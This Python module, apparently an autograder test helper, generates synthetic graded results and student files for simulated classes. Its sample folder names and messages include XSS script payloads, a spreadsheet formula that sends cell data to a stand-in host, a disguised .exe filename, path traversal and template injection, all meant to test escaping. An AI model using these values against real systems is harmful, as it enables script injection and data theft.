"""A class that was never graded: synthetic result documents and sources.

The checks are the rubric's; who passes which is drawn, stronger students more
often. It costs no TensorFlow, so that a class may have 10,000 students.
"""
import pathlib
import random
import socket
import tempfile
from collections.abc import Sequence

from msgspec.structs import replace

from checkers.course import curriculum
from checkers.course.curriculum import TASKS
from checkers.judging import grading
from checkers.marks.document import (CheckMark, CheckStatus, Document,
                                     TaskMark, TaskStatus, to_json)
from checkers.runner import zygote
from checkers.runner.job import make_job
from checkers.selftest.course import COURSE

# Each with two numbers that differ from student to student.
MESSAGES = (
    'For autoencoder(784, [128, 64], 32) the decoder has %d layers; expected '
    '%d.',
    'The loss of a known batch is 0.%d; binary cross-entropy gives 0.%d.',
    'pycodestyle finds %d things: line %d: E501 line too long.',
    'Line %d imports `numpy` and line %d `os`; only tensorflow.keras is '
    'allowed.',
    '`</code><script>alert(%d)</script>` & "quotes" --> \'&lt;%d\' ]]>')
# Names as a folder may have them.
HOSTILE = ('<script>alert(1)</script>', '"><img src=x onerror=alert(2)>',
           "' onmouseover='alert(3)", '\u202egnp.exe', 'x' * 3000,
           '=HYPERLINK("http://there.example/?" & A1)', '+1', '@SUM(A1)',
           'a;=1+1', 'b\t=1+1', '\u674e\u5c0f\u9f8d', '{{ 7 * 7 }}',
           '../../../index', 'javascript:alert(4)')
COMMENT = '# </mark></pre><script>alert(5)</script> \u202e'
INTEGRITY = 'line 3: imports socket'
HINTS = ('Which layer comes first in the decoder?',
         'Look at the loop over `hidden_layers`.')
TABLE = (('layer', 'expected', 'found', 'line'),
         ('hidden 1', '64', '128', '31'), ('hidden 2', '128', '64', '31'))
CURVE = tuple(.693 - .02 * step for step in range(12))


class Idle(zygote.Zygote):
    """A probe that was never started, and does not answer.

    An empty submission needs none; the text of an answer is judged all the
    same.
    """

    def __init__(self) -> None:
        """Claim some versions, and to know every step."""
        self.runtime = {'python': '3.11.7', 'tensorflow': '2.21.0',
                        'keras': '3.15.1', 'sandbox': 'bubblewrap'}
        cases = [case for task in TASKS
                 for case in make_job(task, 0).message()['cases']]
        self.known = {
            'steps': [step['do'] for case in cases for step in case['steps']],
            'builders': [case['build'] for case in cases]}
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)

    def restart(self) -> None:
        """Do nothing: it would not answer either."""


def blank() -> Document:
    """Return the result document of an empty submission."""
    with tempfile.TemporaryDirectory() as folder:
        return grading.grade(folder, Idle())


def drawn(document: Document, name: str, rng: random.Random) -> Document:
    """Return a student's document: a blank one, its marks drawn."""
    strength = rng.gauss(1.2, 1)
    tasks = tuple(task if rng.random() < .2 else attempt(task, strength, rng)
                  for task in document.tasks)
    return replace(document, submission=name, tasks=tasks,
                   score=sum(task.score for task in tasks))


def attempt(task: TaskMark, strength: float, rng: random.Random) -> TaskMark:
    """Return a task with its marks drawn."""
    checks = tuple(
        draw(check, strength + .2 * place - rng.gauss(1.5, 1), place, rng)
        for place, check in enumerate(task.checks))
    passed = all(check.status is CheckStatus.PASSED for check in checks)
    return replace(
        task, checks=checks, score=sum(check.points for check in checks),
        status=TaskStatus.PASSED if passed else TaskStatus.FAILED,
        integrity=(INTEGRITY,) if rng.random() < .1 else ())


def draw(check: CheckMark, margin: float, place: int,
         rng: random.Random) -> CheckMark:
    """Return a check that passed by a margin, or failed with a message."""
    if margin > 0:
        return replace(check, status=CheckStatus.PASSED, message='',
                       points=check.max_points, hints=())
    if margin < -2.5:
        return replace(check, status=CheckStatus.BLOCKED, hints=(),
                       message='the models could not be run')
    return replace(
        check, status=CheckStatus.FAILED, hints=HINTS,
        message=MESSAGES[place % len(MESSAGES)] % (
            rng.randrange(10, 999), rng.randrange(10, 999)),
        table=TABLE if place % 4 == 0 else (),
        curve=CURVE if place % 4 == 1 else ())


def write(folder: pathlib.Path, count: int, names: Sequence[str] = (),
          seed: int = 0, sources: bool = False) -> pathlib.Path:
    """Write a class as `grade` does.

    Args:
        folder: it is made.
        count: how many students.
        names: of the first of them, as found.
        seed: from which the marks are drawn.
        sources: whether to write the students' files as well.

    Returns:
        The folder.
    """
    rng, document = random.Random(seed), blank()
    (folder / 'results').mkdir(parents=True)
    for place in range(count):
        stem = f'student-{place:05d}'
        name = names[place] if place < len(names) else stem
        (folder / 'results' / f'{stem}.json').write_text(
            to_json(drawn(document, name, rng)))
        if sources:
            # The second student's answers are the first one's.
            write_sources(folder / 'sources' / stem,
                          random.Random(seed) if place < 2 else rng)
    return folder


def write_sources(folder: pathlib.Path, rng: random.Random) -> None:
    """Write a student's files: the references with lines of their own."""
    folder.mkdir(parents=True)
    for task in curriculum.TASKS:
        lines = (COURSE / task.file).read_text().splitlines()
        lines.append(COMMENT)
        for _ in range(rng.randrange(4, 16)):
            left, right = rng.choices('abcde', k=2)
            number = rng.randrange(9)
            method = rng.choice(['map', 'get', 'sum', 'cut'])
            lines.append(f'{left} = {right}({number}).{method}()')
        (folder / task.file).write_text('\n'.join(lines) + '\n')
